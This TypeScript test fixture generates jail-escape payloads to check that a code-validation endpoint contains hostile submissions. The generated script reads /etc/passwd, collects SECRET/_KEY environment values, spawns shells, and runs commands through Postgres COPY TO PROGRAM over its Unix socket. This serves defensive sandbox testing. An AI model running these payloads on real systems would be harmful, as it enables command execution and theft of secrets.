/**
 * Hostile code a client submits to POST /api/validate: each payload tries every way out
 * of the jail it can (writes outside it, through a symlink, child processes, a worker,
 * Postgres over its Unix socket with COPY … TO PROGRAM, reading /etc/passwd and the
 * environment) and prints what it got, so a leak into the report is visible too.
 * The same text runs unjailed in a control test to prove the payload works.
 */

/** Where Postgres listens locally (Debian/Ubuntu layout); the payload tries it if present. */
export const postgresSocket = '/var/run/postgresql/.s.PGSQL.5432';

/** One marker path per technique, so a report can name the one that got out. */
export function markerPaths(dirs: readonly string[], token: string): Record<string, string[]> {
  const at = (suffix: string): string[] => dirs.map((dir) => `${dir}/${token}-${suffix}`);
  return {
    write: at('write'),
    symlink: at('symlink'),
    exec: at('exec'),
    spawn: at('spawn'),
    worker: at('worker'),
    postgres: [`/tmp/${token}-postgres`],
  };
}

/** A CommonJS-compatible script body (no imports: `require` works in the jail's CommonJS). */
export function escapeScript(markers: Record<string, string[]>): string {
  const m = JSON.stringify(markers);
  return String.raw`
const __m = ${m};
const __fs = require('fs');
const __out = [];
const __log = (what, value) => { try { const line = what + ': ' + String(value).slice(0, 400); __out.push(line); console.log('[exploit] ' + line); } catch (_) {} };
for (const p of __m.write) { try { __fs.writeFileSync(p, 'pwned'); __log('wrote', p); } catch (e) { __log('write denied', e.code); } }
for (const p of __m.symlink) {
  try { const link = 'link-' + Math.random().toString(36).slice(2); __fs.symlinkSync(p, link); __fs.writeFileSync(link, 'pwned'); __log('symlink wrote', p); } catch (e) { __log('symlink denied', e.code); }
}
try { __log('passwd', __fs.readFileSync('/etc/passwd', 'utf8')); } catch (e) { __log('passwd denied', e.code); }
for (const f of ['/proc/self/environ', '/proc/' + process.ppid + '/environ']) { try { __log('environ', __fs.readFileSync(f, 'utf8').split('\0').filter((v) => /SECRET|_KEY/.test(v)).join(' ')); } catch (e) { __log('environ denied', e.code); } }
for (const k of Object.keys(process.env)) if (/SECRET|_KEY/.test(k)) __log('env ' + k, process.env[k]);
try { const cp = require('child_process'); for (const p of __m.exec) cp.execSync('touch ' + p); __log('exec ran', 1); } catch (e) { __log('exec denied', e.code); }
try { const cp = require('child_process'); for (const p of __m.spawn) cp.spawnSync('/bin/sh', ['-c', 'touch ' + p]); __log('spawn ran', 1); } catch (e) { __log('spawn denied', e.code); }
try {
  const { Worker } = require('worker_threads');
  new Worker('for (const p of ' + JSON.stringify(__m.worker) + ') require("fs").writeFileSync(p, "x")', { eval: true });
} catch (e) { __log('worker denied', e.code); }
try {
  const net = require('net');
  const sock = net.connect({ path: ${JSON.stringify(postgresSocket)} });
  const str = (s) => Buffer.from(s + '\0');
  const params = Buffer.concat([str('user'), str('postgres'), str('database'), str('postgres'), Buffer.from([0])]);
  const head = Buffer.alloc(8); head.writeInt32BE(8 + params.length, 0); head.writeInt32BE(196608, 4);
  const sql = str("COPY (SELECT 1) TO PROGRAM 'touch " + __m.postgres[0] + "'");
  const q = Buffer.alloc(5); q.write('Q', 0); q.writeInt32BE(4 + sql.length, 1);
  sock.on('error', (e) => __log('postgres error', e.code));
  sock.on('connect', () => sock.write(Buffer.concat([head, params])));
  let sent = false;
  sock.on('data', (d) => { if (!sent && d.includes(Buffer.from('Z'))) { sent = true; sock.write(Buffer.concat([q, sql])); setTimeout(() => sock.destroy(), 300); } });
} catch (e) { __log('postgres denied', e.code); }
`;
}

/**
 * The payload as a node:test file. The test always fails with `jail-ran <what happened>`,
 * so the report proves the code ran (in the jail) and shows anything it managed to read.
 */
export function escapeTest(markers: Record<string, string[]>): string {
  return `const { test } = require('node:test');\ntest('escape', async () => {\n${escapeScript(markers)}\nawait new Promise((r) => setTimeout(r, 500));\nthrow new Error('jail-ran ' + __out.join(' | '));\n});\n`;
}

/** Same as an ES module test file (`.mjs`): `require` comes from `createRequire`. */
export function escapeTestEsm(markers: Record<string, string[]>): string {
  return `import { test } from 'node:test';\nimport { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\ntest('escape', async () => {\n${escapeScript(markers)}\nawait new Promise((r) => setTimeout(r, 500));\nthrow new Error('jail-ran ' + __out.join(' | '));\n});\n`;
}
